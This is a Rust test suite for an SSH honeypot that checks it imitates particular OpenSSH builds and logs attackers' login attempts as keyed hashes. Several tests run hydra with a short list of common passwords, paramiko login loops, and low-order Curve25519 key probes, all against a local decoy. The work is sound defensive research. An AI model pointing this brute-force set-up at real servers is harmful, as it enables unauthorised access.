//! The SSH decoy against the clients attackers use (OpenSSH's ssh with sshpass, paramiko,
//! hydra) and the tools they check servers with (nmap, ssh-audit, ssh-keyscan, and the real
//! Debian sshd beside it): what they see, and what the operator reads back.

use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use decoyd::decoy::ssh::profile::Profile;

use crate::harness::*;

fn ssh_sensor(yaml: &str) -> Sensor {
    Sensor::new().decoy("ssh", yaml).with_host_keys("ssh")
}

/// An SSH decoy of `profile` that accepts deploy / Zq-Summer-2024.
fn accepting_sensor(profile: &str) -> Sensor {
    ssh_sensor(&format!(
        "{}accept:\n  - user: deploy\n    password: \"Zq-Summer-2024\"\n",
        SSH.replace("openssh-9.6p1-ubuntu", profile)
    ))
}

fn stderr(o: &std::process::Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn auths<'a>(events: &'a [serde_json::Value], method: &str) -> Vec<&'a serde_json::Value> {
    of_type(events, "ssh_auth")
        .into_iter()
        .filter(|e| e["event"]["method"] == method)
        .collect()
}

#[test]
fn a_wrong_password_is_refused_as_openssh_words_it_and_stored_only_as_a_keyed_hash() {
    let sensor = ssh_sensor(SSH);
    let d = sensor.start();
    let addr = d.addr("ssh");

    let o = sshpass(
        addr,
        "alice",
        "Zq-ssh-secret-1",
        &[
            "-o",
            "NumberOfPasswordPrompts=1",
            "-o",
            "PubkeyAuthentication=no",
        ],
        Some("true"),
    );
    assert_eq!(o.status.code(), Some(255));
    assert!(
        stderr(&o).contains("alice@127.0.0.1: Permission denied (publickey,password)."),
        "{}",
        stderr(&o)
    );

    // Three attempts on one paramiko connection are three touches.
    let seen = paramiko(&[
        "passwords",
        "127.0.0.1",
        &addr.port().to_string(),
        "bob",
        "Zq-p1",
        "Zq-p2",
        "Zq-p3",
    ]);
    assert_eq!(
        seen[0]["server"],
        "SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13.5"
    );
    for s in &seen[1..] {
        assert_eq!(s["error"], "AuthenticationException", "{s}");
        assert_eq!(s["active"], true);
    }

    let events = sensor.events_with("ssh_connection", 2);
    let pw = auths(&events, "password");
    assert_eq!(pw.len(), 4, "{events:#?}");
    let first = &pw[0]["event"];
    assert_eq!(first["username"], "alice");
    assert_eq!(first["result"], "failure");
    assert_eq!(
        first["password"]["hmac"],
        sensor.password_hmac("Zq-ssh-secret-1")
    );
    assert_eq!(first["password"]["length"], 15);
    assert!(first["password"].get("plaintext").is_none());
    assert!(
        first["version"]
            .as_str()
            .unwrap()
            .starts_with("SSH-2.0-OpenSSH_")
    );
    assert_eq!(first["hassh"].as_str().unwrap().len(), 32);
    // OpenSSH asks for the method list first: not an attempt, kept with the connection.
    assert!(auths(&events, "none").is_empty());
    assert_eq!(first["attempt"], 2);

    let paramiko_attempts: Vec<_> = pw[1..].iter().map(|e| &e["event"]).collect();
    let source = pw[1]["source"].clone();
    for (i, (e, p)) in paramiko_attempts
        .iter()
        .zip(["Zq-p1", "Zq-p2", "Zq-p3"])
        .enumerate()
    {
        assert_eq!(e["username"], "bob");
        assert_eq!(e["attempt"], i + 1);
        assert_eq!(e["password"]["hmac"], sensor.password_hmac(p));
        assert!(
            e["version"]
                .as_str()
                .unwrap()
                .starts_with("SSH-2.0-paramiko_")
        );
        assert_eq!(pw[1 + i]["source"], source, "one connection");
    }
    let conns = of_type(&events, "ssh_connection");
    assert_eq!(conns.len(), 2, "{events:#?}");
    assert_eq!(conns[0]["event"]["ended"], "closed");
    assert_eq!(conns[0]["event"]["auth_attempts"], 2);
    assert_eq!(conns[0]["event"]["probe_user"], "alice");
    assert_eq!(conns[1]["event"]["auth_attempts"], 3);

    // The operator's text view quotes what the attacker typed.
    let text = String::from_utf8(sensor.cli(&["events"]).stdout).unwrap();
    assert!(
        text.contains("ssh_auth #2 Password user=\"alice\" password=hmac:"),
        "{text}"
    );

    let bytes = all_bytes_under(&sensor.data());
    for p in ["Zq-ssh-secret-1", "Zq-p1", "Zq-p2", "Zq-p3"] {
        assert!(!contains(&bytes, p), "{p} is stored in clear");
    }
}

/// OpenSSH's `ssh` offering only the key in `key`, never asking for a password.
fn key_only_ssh(addr: std::net::SocketAddr, key: &std::path::Path) -> Command {
    let mut ssh = Command::new("ssh");
    ssh.args(ssh_options(addr))
        .args([
            "-o",
            "PasswordAuthentication=no",
            "-o",
            "BatchMode=yes",
            "-i",
        ])
        .arg(key);
    ssh
}

#[test]
fn a_public_key_attempt_is_stored_with_the_fingerprint_ssh_keygen_prints() {
    let sensor = ssh_sensor(SSH);
    let d = sensor.start();
    let (key, fingerprint) = keygen(sensor.dir.path(), 1).remove(0);

    let o = key_only_ssh(d.addr("ssh"), &key)
        .args(["root@127.0.0.1", "true"])
        .output()
        .unwrap();
    assert!(
        stderr(&o).contains("root@127.0.0.1: Permission denied (publickey,password)."),
        "{}",
        stderr(&o)
    );
    let events = sensor.events();
    let pk = auths(&events, "publickey");
    assert_eq!(pk.len(), 1, "{events:#?}");
    assert_eq!(pk[0]["event"]["username"], "root");
    assert_eq!(pk[0]["event"]["key"]["algorithm"], "ssh-ed25519");
    assert_eq!(pk[0]["event"]["key"]["fingerprint"], fingerprint.as_str());
}

#[test]
fn an_accepted_key_signs_in_bound_to_the_host_key_as_openssh_clients_sign_for_sshd() {
    let keys = tempfile::tempdir().unwrap();
    let (key, fingerprint) = keygen(keys.path(), 1).remove(0);
    let public = std::fs::read_to_string(key.with_extension("pub")).unwrap();
    let sensor = ssh_sensor(&format!(
        "{SSH}accept:\n  - user: git\n    key: {}\n",
        public.trim()
    ));
    let d = sensor.start();

    let o = key_only_ssh(d.addr("ssh"), &key)
        .args(["-vvv", "git@127.0.0.1", "whoami"])
        .output()
        .unwrap();
    let log = stderr(&o);
    assert_eq!(o.status.code(), Some(0), "{log}");
    assert_eq!(String::from_utf8_lossy(&o.stdout), "git\n");

    // The extensions 9.6p1 sends after key exchange, in its order. This client (9.2) knows
    // the host-bound one and not ping, which 9.5 added.
    let ext: Vec<&str> = log
        .lines()
        .filter_map(|l| l.strip_prefix("debug1: kex_input_ext_info: "))
        .collect();
    assert_eq!(ext.len(), 3, "{log}");
    assert!(
        ext[0].starts_with("server-sig-algs=<ssh-ed25519,"),
        "{ext:?}"
    );
    assert_eq!(ext[1], "publickey-hostbound@openssh.com=<0>");
    assert!(ext[2].starts_with("ping@openssh.com"), "{ext:?}");
    // So the client signed with the host key of the exchange in what it signed, and the
    // decoy checked that signature before letting it in.
    assert!(
        log.lines()
            .any(|l| l.contains("using publickey-hostbound-v00@openssh.com with ED25519")),
        "{log}"
    );

    let events = sensor.events();
    let pk = auths(&events, "publickey");
    assert_eq!(pk.last().unwrap()["event"]["result"], "accepted", "{pk:#?}");
    assert_eq!(pk.last().unwrap()["event"]["username"], "git");
    assert_eq!(
        pk.last().unwrap()["event"]["key"]["fingerprint"],
        fingerprint.as_str()
    );
}

#[test]
fn a_host_bound_query_is_recorded_and_one_naming_another_host_key_ends_the_connection() {
    let sensor = ssh_sensor(SSH);
    let d = sensor.start();
    let (key, fingerprint) = keygen(sensor.dir.path(), 1).remove(0);
    let answers = paramiko(&[
        "hostbound",
        "127.0.0.1",
        &d.addr("ssh").port().to_string(),
        "root",
        key.to_str().unwrap(),
    ]);
    let ext = &answers[0]["extensions"];
    assert_eq!(ext["publickey-hostbound@openssh.com"], "0", "{answers:#?}");
    assert_eq!(ext["ping@openssh.com"], "0", "{answers:#?}");
    assert_eq!(answers[1]["error"], "BadAuthenticationType", "{answers:#?}");
    assert_eq!(answers[2]["active"], false, "{answers:#?}");

    let events = sensor.events();
    let pk = auths(&events, "publickey");
    assert_eq!(pk.len(), 1, "{events:#?}");
    assert_eq!(pk[0]["event"]["result"], "failure");
    assert_eq!(pk[0]["event"]["key"]["fingerprint"], fingerprint.as_str());
    let conns = of_type(&events, "ssh_connection");
    assert_eq!(conns.len(), 1, "{events:#?}");
    assert_eq!(conns[0]["event"]["ended"], "protocol_error");
}

#[test]
fn a_ping_is_answered_before_and_after_login_as_9_6p1_answers_it() {
    // 9.6p1 (Ubuntu's 3ubuntu13.5 too) answers a PING once the first key exchange is done,
    // before authentication as well; 9.9p2 stopped that. The Debian build refuses the type,
    // as the comparison with the real sshd shows.
    let sensor = accepting_sensor("openssh-9.6p1-ubuntu");
    let d = sensor.start();
    let got = paramiko(&[
        "ping",
        "127.0.0.1",
        &d.addr("ssh").port().to_string(),
        "deploy",
        "Zq-Summer-2024",
        "chaff-1234",
    ]);
    assert_eq!(got[0]["before_login"], "chaff-1234", "{got:#?}");
    assert_eq!(got[0]["after_login"], "chaff-1234", "{got:#?}");
    assert_eq!(got[0]["active"], true, "{got:#?}");
}

/// The paramiko `unknown` mode's answers to `probes` from the server at `addr`.
fn unexpected_messages(
    addr: SocketAddr,
    user: &str,
    secret: &str,
    probes: &[&str],
) -> Vec<serde_json::Value> {
    let port = addr.port().to_string();
    let mut args = vec!["unknown", "127.0.0.1", &port, user, secret];
    args.extend_from_slice(probes);
    let got = paramiko(&args);
    assert_eq!(got.len(), probes.len(), "{got:#?}");
    got
}

/// The recorded SSH connections, and how many of them ended in a protocol error.
fn connections_and_protocol_errors(
    events: &[serde_json::Value],
) -> (Vec<&serde_json::Value>, usize) {
    let conns = of_type(events, "ssh_connection");
    let broken = conns
        .iter()
        .filter(|c| c["event"]["ended"] == "protocol_error")
        .count();
    (conns, broken)
}

#[test]
fn messages_the_9_6p1_build_does_not_expect_get_its_answers() {
    // From 9.6p1's source (no 9.6 sshd runs here): only type 0 is refused outright; whatever
    // the state has no use for is answered UNIMPLEMENTED with its sequence number (0 right
    // after key exchange, in strict mode); a client's EXT_INFO is read only before the
    // service request; any service but ssh-userauth ends the connection.
    let sensor = accepting_sensor("openssh-9.6p1-ubuntu");
    let d = sensor.start();
    let probes = [
        "kex/0",
        "kex/200",
        "kex/255",
        "auth/7",
        "auth/61",
        "auth/5:ssh-connection",
        "session/200",
        "session/50",
        "session/5:ssh-userauth",
    ];
    let got = unexpected_messages(d.addr("ssh"), "deploy", "Zq-Summer-2024", &probes);
    let answer = |p: &str| got.iter().find(|g| g["probe"] == p).unwrap();
    let refused = |p: &str, words: &str| {
        assert_eq!(
            answer(p)["disconnect"],
            serde_json::json!([2, words]),
            "{p}"
        );
        assert_eq!(answer(p)["active"], false, "{p}");
    };
    refused("kex/0", "Invalid ssh2 packet type: 0");
    refused(
        "auth/5:ssh-connection",
        "bad service request ssh-connection",
    );
    for p in probes
        .iter()
        .filter(|p| !["kex/0", "auth/5:ssh-connection"].contains(p))
    {
        let g = answer(p);
        assert_eq!(g["unimplemented"], g["sent_seq"], "{p}: {g}");
        assert!(g["unimplemented"].is_u64(), "{p}: {g}");
        assert_eq!(g["active"], true, "{p}: {g}");
    }

    // The two it refused are recorded as connections that broke the protocol.
    let events = sensor.events();
    let (conns, broken) = connections_and_protocol_errors(&events);
    assert_eq!(conns.len(), probes.len(), "{events:#?}");
    assert_eq!(broken, 2, "{conns:#?}");
}

#[test]
fn a_client_that_asks_gets_ext_info_again_on_its_first_attempt_from_9_6_only() {
    let sent = |names: &[&str]| serde_json::json!({"names": names, "after_answers": 0});
    let ubuntu_first = sent(&[
        "server-sig-algs",
        "publickey-hostbound@openssh.com",
        "ping@openssh.com",
    ]);
    let again = sent(&["server-sig-algs"]);
    let debian_first = sent(&["server-sig-algs", "publickey-hostbound@openssh.com"]);
    for (profile, ask, expected) in [
        (
            "openssh-9.6p1-ubuntu",
            "1",
            vec![ubuntu_first.clone(), again],
        ),
        ("openssh-9.6p1-ubuntu", "0", vec![ubuntu_first.clone()]),
        // One is read; a second is a message sshd has no use for.
        (
            "openssh-9.6p1-ubuntu",
            "2",
            vec![ubuntu_first, sent(&["server-sig-algs"])],
        ),
        // A client that did not list ext-info-c gets no EXT_INFO, and its own is not read.
        ("openssh-9.6p1-ubuntu", "no-ext-info-c", vec![]),
        ("openssh-9.2p1-debian", "1", vec![debian_first]),
    ] {
        // Where the second EXT_INFO is due, failures wait 2 s: sshd sends it before it takes
        // up the request, so it must not wait for the refusal.
        let delayed = ask == "1" && expected.len() == 2;
        let sensor = if delayed {
            ssh_sensor(&format!(
                "{}accept:\n  - user: deploy\n    password: \"Zq-Summer-2024\"\n",
                SSH.replace("openssh-9.6p1-ubuntu", profile)
                    .replace("failure_delay: 0s", "failure_delay: 2s")
            ))
        } else {
            accepting_sensor(profile)
        };
        let d = sensor.start();
        // A failure, then the login: the second EXT_INFO comes before the first answer, once.
        let got = paramiko(&[
            "extinfo",
            "127.0.0.1",
            &d.addr("ssh").port().to_string(),
            "deploy",
            ask,
            "Zq-wrong",
            "Zq-Summer-2024",
        ]);
        assert_eq!(
            got[0]["answers"],
            serde_json::json!(["refused", "accepted"]),
            "{profile} {ask}: {got:#?}"
        );
        let mut seen = got[0]["ext_info"].as_array().unwrap().clone();
        let at: Vec<serde_json::Value> = seen
            .iter_mut()
            .map(|e| e.as_object_mut().unwrap().remove("at").unwrap())
            .collect();
        assert_eq!(seen, expected, "{profile} {ask}");
        // Unread EXT_INFOs are answered UNIMPLEMENTED with their sequence numbers: the second
        // of two, the one from a client without ext-info-c, and 9.2's, which reads none.
        let sent = got[0]["sent_seqs"].as_array().unwrap();
        let unread = match ask {
            "2" => sent[1..].to_vec(),
            "no-ext-info-c" => sent.clone(),
            _ if profile.contains("9.2") => sent.clone(),
            _ => vec![],
        };
        assert_eq!(
            got[0]["unimplemented"].as_array().unwrap(),
            &unread,
            "{profile} {ask}: {got:?}"
        );
        if delayed {
            let refused = got[0]["answered_at"][0].as_f64().unwrap();
            let again = at[1].as_f64().unwrap();
            assert!(refused >= 1.9, "the failure delay held: {got:?}");
            assert!(
                again < refused - 1.0,
                "EXT_INFO at once, not with the refusal: {got:?}"
            );
        }
    }
}

/// `n` fresh ed25519 key files in `dir`, with their `ssh-keygen -lf` fingerprints.
fn keygen(dir: &Path, n: usize) -> Vec<(std::path::PathBuf, String)> {
    (1..=n)
        .map(|i| {
            let key = dir.join(format!("id_ed25519_{i}"));
            let made = Command::new("ssh-keygen")
                .args(["-q", "-t", "ed25519", "-N", "", "-C", "attacker", "-f"])
                .arg(&key)
                .status()
                .unwrap();
            assert!(made.success());
            let listed = Command::new("ssh-keygen")
                .arg("-lf")
                .arg(key.with_extension("pub"))
                .output()
                .unwrap();
            let fingerprint = String::from_utf8(listed.stdout)
                .unwrap()
                .split_whitespace()
                .nth(1)
                .unwrap()
                .to_string();
            (key, fingerprint)
        })
        .collect()
}

/// OpenSSH's `ssh -v` offering each of `keys` in turn to `user` at `addr`, and no password.
fn offer_keys(
    addr: SocketAddr,
    user: &str,
    keys: &[(std::path::PathBuf, String)],
) -> std::process::Output {
    let mut cmd = Command::new("ssh");
    cmd.arg("-v").args(ssh_options(addr)).args([
        "-o",
        "PasswordAuthentication=no",
        "-o",
        "BatchMode=yes",
    ]);
    for (k, _) in keys {
        cmd.arg("-i").arg(k);
    }
    cmd.arg(format!("{user}@127.0.0.1"))
        .arg("true")
        .output()
        .unwrap()
}

#[test]
fn paramiko_as_attack_scripts_call_it_asks_for_the_service_each_time_and_every_attempt_is_stored() {
    let sensor = ssh_sensor(SSH);
    let d = sensor.start();
    let port = d.addr("ssh").port().to_string();

    // paramiko's default Transport asks for ssh-userauth again before each attempt; sshd
    // answers every such request until a login succeeds, and so must the decoy, or the second
    // attempt waits out paramiko's auth timeout and never reaches it.
    let seen = paramiko(&[
        "default-passwords",
        "127.0.0.1",
        &port,
        "oracle",
        "Zq-d1",
        "Zq-d2",
        "Zq-d3",
    ]);
    for s in &seen[1..] {
        assert_eq!(s["message"], "Authentication failed.", "{s}");
        assert_eq!(s["active"], true, "{s}");
    }

    // SSHClient.connect with a key and a password: the key first, then the password, each
    // after a new service request.
    let (key, fingerprint) = keygen(sensor.dir.path(), 1).remove(0);
    let seen = paramiko(&[
        "sshclient",
        "127.0.0.1",
        &port,
        "deploy",
        "Zq-client-pw",
        key.to_str().unwrap(),
    ]);
    assert_eq!(seen[0]["error"], "AuthenticationException", "{seen:?}");
    assert_eq!(seen[0]["message"], "Authentication failed.", "{seen:?}");

    let events = sensor.events_with("ssh_connection", 2);
    let pw = auths(&events, "password");
    let hmacs: Vec<_> = pw.iter().map(|e| &e["event"]["password"]["hmac"]).collect();
    let want: Vec<_> = ["Zq-d1", "Zq-d2", "Zq-d3", "Zq-client-pw"]
        .map(|p| serde_json::Value::from(sensor.password_hmac(p)))
        .into();
    assert_eq!(hmacs, want.iter().collect::<Vec<_>>(), "{events:#?}");
    assert_eq!(pw[0]["source"], pw[2]["source"], "one connection");
    let pk = auths(&events, "publickey");
    assert_eq!(pk.len(), 1, "{events:#?}");
    assert_eq!(pk[0]["event"]["username"], "deploy");
    assert_eq!(pk[0]["event"]["key"]["fingerprint"], fingerprint.as_str());
    assert_eq!(
        pk[0]["source"], pw[3]["source"],
        "key and password on one connection"
    );
    let conns = of_type(&events, "ssh_connection");
    assert!(
        conns.iter().all(|c| c["event"]["ended"] == "closed"),
        "{conns:#?}"
    );
}

#[test]
fn a_password_change_request_is_a_recorded_failure_with_both_passwords_hashed() {
    let sensor = ssh_sensor(SSH);
    let d = sensor.start();
    let seen = paramiko(&[
        "change",
        "127.0.0.1",
        &d.addr("ssh").port().to_string(),
        "admin",
        "Zq-old-pw",
        "Zq-new-pw",
        "Zq-next-pw",
    ]);
    // As sshd ("password change not supported"): a failure that keeps every method, so the
    // next attempt on the connection is a password again.
    for s in &seen {
        assert_eq!(s["message"], "Authentication failed.", "{seen:?}");
        assert_eq!(s["active"], true, "{seen:?}");
    }
    let events = sensor.events_with("ssh_connection", 1);
    let pw = auths(&events, "password");
    assert_eq!(pw.len(), 2, "{events:#?}");
    let change = &pw[0]["event"];
    assert_eq!(
        change["password"]["hmac"],
        sensor.password_hmac("Zq-old-pw")
    );
    assert_eq!(
        change["new_password"]["hmac"],
        sensor.password_hmac("Zq-new-pw")
    );
    assert_eq!(change["result"], "failure");
    assert_eq!(
        pw[1]["event"]["password"]["hmac"],
        sensor.password_hmac("Zq-next-pw")
    );
    assert!(pw[1]["event"].get("new_password").is_none());
    let text = String::from_utf8(sensor.cli(&["events"]).stdout).unwrap();
    assert!(text.contains(" new_password=hmac:"), "{text}");
    let bytes = all_bytes_under(&sensor.data());
    for p in ["Zq-old-pw", "Zq-new-pw", "Zq-next-pw"] {
        assert!(!contains(&bytes, p), "{p} is stored in clear");
    }
}

#[test]
fn a_low_order_curve25519_key_is_refused_without_a_reply() {
    let sensor = ssh_sensor(SSH);
    let d = sensor.start();
    let port = d.addr("ssh").port().to_string();
    let exchange = |point: &str| paramiko(&["lowpoint", "127.0.0.1", &port, point]).remove(0);
    // Points of order 2, 4 and 8 make the shared secret all zeros whatever the server's key
    // (RFC 7748, section 6.1): the decoy closes without its key exchange reply.
    for point in [
        "0000000000000000000000000000000000000000000000000000000000000000",
        "0100000000000000000000000000000000000000000000000000000000000000",
        "e0eb7a7c3b41b8ae1656e3faf19fc46ada098deb9c32b1fd866205165f49b800",
        "5f9c95bca3508c24b1d0b1559c83ef5b04445cc4581c8e86d8224eddd09f1157",
    ] {
        let seen = exchange(point);
        assert_eq!(seen["error"], "EOFError", "{point}: {seen}");
    }
    // A point of full order (RFC 7748's test key for Alice) is answered; paramiko then finds
    // the exchange was not made with its own key.
    let seen = exchange("8520f0098930a754748b7ddcb43ef75a0dbf3a0d26381af4eba4a98eaa9b4e6a");
    assert_eq!(seen["error"], "SSHException", "{seen}");

    let events = sensor.events_with("ssh_connection", 5);
    let conns = of_type(&events, "ssh_connection");
    let ended: Vec<_> = conns.iter().map(|c| &c["event"]["ended"]).collect();
    assert_eq!(
        ended.iter().filter(|e| **e == "protocol_error").count(),
        4,
        "{conns:#?}"
    );
    let replied = conns
        .iter()
        .map(|c| c["event"]["bytes_out"].as_u64().unwrap())
        .max()
        .unwrap();
    for c in conns
        .iter()
        .filter(|c| c["event"]["ended"] == "protocol_error")
    {
        assert!(c["event"]["bytes_out"].as_u64().unwrap() < replied, "{c}");
    }
}

#[test]
fn openssh_offering_seven_keys_is_cut_off_at_the_sixth_with_the_disconnect_alone() {
    let sensor = ssh_sensor(SSH);
    let d = sensor.start();
    let addr = d.addr("ssh");
    let keys = keygen(sensor.dir.path(), 7);
    let o = offer_keys(addr, "root", &keys);
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(255), "{err}");
    // One answer to the client's "none" request, then five refused keys; the sixth is
    // answered by the disconnect alone, worded and coded as sshd words it.
    assert_eq!(
        err.matches("Authentications that can continue: publickey,password")
            .count(),
        6,
        "{err}"
    );
    assert!(
        err.contains(&format!(
            "Received disconnect from 127.0.0.1 port {}:2: Too many authentication failures",
            addr.port()
        )),
        "{err}"
    );
    let offered = |k: &Path| format!("Offering public key: {}", k.display());
    assert!(err.contains(&offered(&keys[5].0)), "{err}");
    assert!(!err.contains(&offered(&keys[6].0)), "{err}");

    let events = sensor.events_with("ssh_connection", 1);
    let pk = auths(&events, "publickey");
    let fingerprints: Vec<_> = pk
        .iter()
        .map(|e| &e["event"]["key"]["fingerprint"])
        .collect();
    let want: Vec<_> = keys[..6]
        .iter()
        .map(|(_, f)| serde_json::Value::from(f.as_str()))
        .collect();
    assert_eq!(fingerprints, want.iter().collect::<Vec<_>>(), "{events:#?}");
    assert_eq!(pk[5]["event"]["result"], "too_many_failures");
    assert_eq!(
        of_type(&events, "ssh_connection")[0]["event"]["ended"],
        "too_many_failures"
    );
}

#[test]
fn the_sixth_failure_ends_the_connection_and_keyboard_interactive_is_refused_as_stock_sshd() {
    let sensor = ssh_sensor(SSH);
    let d = sensor.start();
    let port = d.addr("ssh").port().to_string();
    let pws: Vec<String> = (1..=7).map(|i| format!("guess-{i}")).collect();
    let mut args = vec!["passwords", "127.0.0.1", &port, "admin"];
    args.extend(pws.iter().map(String::as_str));
    let seen = paramiko(&args);
    for s in &seen[1..6] {
        assert_eq!(s["message"], "Authentication failed.", "{s}");
        assert_eq!(s["active"], true);
    }
    // As OpenSSH: the sixth failure is answered by the disconnect alone, so the client reads
    // no failure for it; the seventh reaches no server.
    assert_eq!(
        seen[6]["message"],
        "Authentication failed: transport shut down or saw EOF"
    );
    assert_eq!(seen[6]["active"], false);
    assert_eq!(seen[7]["message"], "No existing session", "{}", seen[7]);
    assert_eq!(seen[7]["active"], false);

    let kbd = paramiko(&["kbd", "127.0.0.1", &port, "admin"]);
    assert_eq!(kbd[0]["error"], "BadAuthenticationType", "{kbd:?}");
    assert_eq!(
        kbd[0]["allowed"],
        serde_json::json!(["publickey", "password"])
    );

    let events = sensor.events();
    let pw = auths(&events, "password");
    assert_eq!(
        pw.len(),
        6,
        "the seventh never reached the decoy: {events:#?}"
    );
    let results: Vec<&str> = pw
        .iter()
        .map(|e| e["event"]["result"].as_str().unwrap())
        .collect();
    assert_eq!(
        results,
        [
            "failure",
            "failure",
            "failure",
            "failure",
            "failure",
            "too_many_failures"
        ]
    );
    let conns = of_type(&events, "ssh_connection");
    assert_eq!(conns[0]["event"]["ended"], "too_many_failures");
    assert_eq!(conns[0]["event"]["auth_attempts"], 6);
    let k = auths(&events, "keyboard-interactive");
    assert_eq!(k.len(), 1);
    assert_eq!(k[0]["event"]["username"], "admin");
}

#[test]
fn hydra_runs_its_word_list_to_the_end_and_every_attempt_it_makes_is_stored() {
    let users = ["root", "admin", "deploy", "oracle"];
    let passwords = [
        "123456",
        "password",
        "Winter2024!",
        "changeme",
        "qwerty",
        "letmein",
        "P@ssw0rd",
        "toor",
    ];
    // hydra gives up on a pair whose child could not connect after its retries and still
    // says the target is completed. Such a run proves nothing about the decoy; it is run
    // again once, on a fresh sensor, and a second such run fails the test.
    for run in 1..=2 {
        let sensor = ssh_sensor(&format!("{SSH}limits:\n  max_connections_per_source: 64\n"));
        let d = sensor.start();
        let text = hydra(&sensor, d.addr("ssh"), 16, &users, &passwords);
        assert!(
            text.contains("1 of 1 target completed, 0 valid password found"),
            "{text}"
        );
        let tries: usize = text
            .split_whitespace()
            .collect::<Vec<_>>()
            .windows(2)
            .find(|w| w[1] == "login")
            .map(|w| w[0].parse().unwrap())
            .expect("hydra says how many login tries it makes");
        assert_eq!(tries, users.len() * passwords.len());
        let handed_out = hydra_tried(&sensor, &text);
        let events = sensor.events();
        let stored = stored_password_pairs(&events);
        let mut made = std::collections::BTreeSet::new();
        for u in users {
            for p in passwords {
                made.insert((u.to_string(), sensor.password_hmac(p)));
            }
        }
        assert_eq!(handed_out, made, "hydra names every pair it tries:\n{text}");
        let ends: Vec<_> = of_type(&events, "ssh_connection")
            .iter()
            .map(|c| c["event"]["ended"].to_string())
            .collect();
        assert!(
            ends.iter()
                .all(|e| e == "\"closed\"" || e == "\"too_many_failures\""),
            "hydra's connections all end as a client ends them: {ends:?}"
        );
        let unstored: Vec<_> = made.difference(&stored).collect();
        let unmade: Vec<_> = stored.difference(&made).collect();
        assert!(unmade.is_empty(), "nothing hydra did not try: {unmade:?}");
        let gave_up = hydra_gave_up(&text);
        if unstored.is_empty() {
            return;
        }
        assert!(
            gave_up && run == 1,
            "every attempt hydra made is stored: not stored {unstored:?}; \
             connections ended {ends:?}; hydra printed:\n{text}"
        );
        eprintln!("hydra gave up on {unstored:?} (run {run}):\n{text}");
    }
}

/// The server's identification line and its KEXINIT name-lists, read off a raw socket.
fn server_hello(addr: SocketAddr) -> (String, Vec<Vec<String>>) {
    let mut s = TcpStream::connect(addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    let mut banner = Vec::new();
    let mut b = [0u8; 1];
    while !banner.ends_with(b"\r\n") {
        s.read_exact(&mut b).unwrap();
        banner.push(b[0]);
    }
    s.write_all(b"SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13.5\r\n")
        .unwrap();
    let mut len = [0u8; 4];
    s.read_exact(&mut len).unwrap();
    let mut packet = vec![0u8; u32::from_be_bytes(len) as usize];
    s.read_exact(&mut packet).unwrap();
    assert_eq!(packet[1], 20, "KEXINIT");
    let mut r = &packet[1 + 17..];
    let mut lists = Vec::new();
    for _ in 0..10 {
        let n = u32::from_be_bytes(r[..4].try_into().unwrap()) as usize;
        let list = std::str::from_utf8(&r[4..4 + n]).unwrap();
        lists.push(if list.is_empty() {
            Vec::new()
        } else {
            list.split(',').map(String::from).collect()
        });
        r = &r[4 + n..];
    }
    (
        String::from_utf8(banner).unwrap().trim_end().to_string(),
        lists,
    )
}

/// The lists a profile's build sends, and the lists the decoy sends for it.
fn build_and_wire_lists(p: Profile) -> (Vec<Vec<String>>, Vec<Vec<String>>) {
    let d = p.data();
    let build: Vec<Vec<String>> = [
        d.kex,
        d.host_key_algorithms,
        d.ciphers,
        d.macs,
        d.compression,
    ]
    .iter()
    .map(|l| l.iter().map(|s| s.to_string()).collect())
    .collect();
    let wire = build
        .iter()
        .map(|l| {
            l.iter()
                .filter(|n| !d.not_offered.contains(&n.as_str()))
                .cloned()
                .collect()
        })
        .collect();
    (build, wire)
}

#[test]
fn nmap_and_ssh_audit_see_the_profiles_and_host_keys_survive_a_restart() {
    let sensor = Sensor::new()
        .decoy("ubuntu", SSH)
        .decoy(
            "debian",
            &SSH.replace("openssh-9.6p1-ubuntu", "openssh-9.2p1-debian"),
        )
        .with_host_keys("ubuntu")
        .with_host_keys("debian");
    let d = sensor.start();
    let (u, db) = (d.addr("ubuntu"), d.addr("debian"));

    let nmap = Command::new("nmap")
        .args([
            "-sV",
            "-Pn",
            "-n",
            "-p",
            &format!("{},{}", u.port(), db.port()),
            "127.0.0.1",
        ])
        .output()
        .expect("nmap is installed");
    let text = String::from_utf8_lossy(&nmap.stdout).into_owned();
    assert!(
        text.contains(&format!(
            "{}/tcp open  ssh     OpenSSH 9.6p1 Ubuntu 3ubuntu13.5 (Ubuntu Linux; protocol 2.0)",
            u.port()
        )),
        "{text}"
    );
    assert!(
        text.contains(&format!(
            "{}/tcp open  ssh     OpenSSH 9.2p1 Debian 2+deb12u10 (protocol 2.0)",
            db.port()
        )),
        "{text}"
    );

    for (addr, profile) in [
        (u, Profile::Openssh96Ubuntu),
        (db, Profile::Openssh92Debian),
    ] {
        // As a module, so no PATH set-up of pip's scripts is needed.
        let audit = Command::new("python3")
            .args([
                "-m",
                "ssh_audit",
                "-j",
                "--skip-rate-test",
                "-p",
                &addr.port().to_string(),
                "127.0.0.1",
            ])
            .output()
            .expect("ssh-audit is installed");
        let j: serde_json::Value = serde_json::from_slice(&audit.stdout)
            .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&audit.stdout)));
        assert_eq!(j["banner"]["raw"], profile.data().id);
        let names = |k: &str| -> Vec<String> {
            j[k].as_array()
                .unwrap()
                .iter()
                .map(|a| {
                    a.get("algorithm")
                        .unwrap_or(a)
                        .as_str()
                        .unwrap()
                        .to_string()
                })
                .collect()
        };
        let (_, wire) = build_and_wire_lists(profile);
        assert_eq!(names("kex"), wire[0], "{profile}");
        assert_eq!(names("key"), wire[1], "{profile}");
        assert_eq!(names("enc"), wire[2], "{profile}");
        assert_eq!(names("mac"), wire[3], "{profile}");
        assert_eq!(names("compression"), wire[4], "{profile}");
        for k in ["kex", "key", "enc", "mac"] {
            for a in j[k].as_array().unwrap() {
                assert!(
                    !a["notes"].to_string().contains("unknown algorithm"),
                    "{profile}: {a}"
                );
            }
        }
        // And on the wire, the whole KEXINIT: the same lists both ways, in order.
        let (banner, lists) = server_hello(addr);
        assert_eq!(banner, profile.data().id);
        let (_, wire) = build_and_wire_lists(profile);
        assert_eq!(lists[0], wire[0]);
        assert_eq!(lists[1], wire[1]);
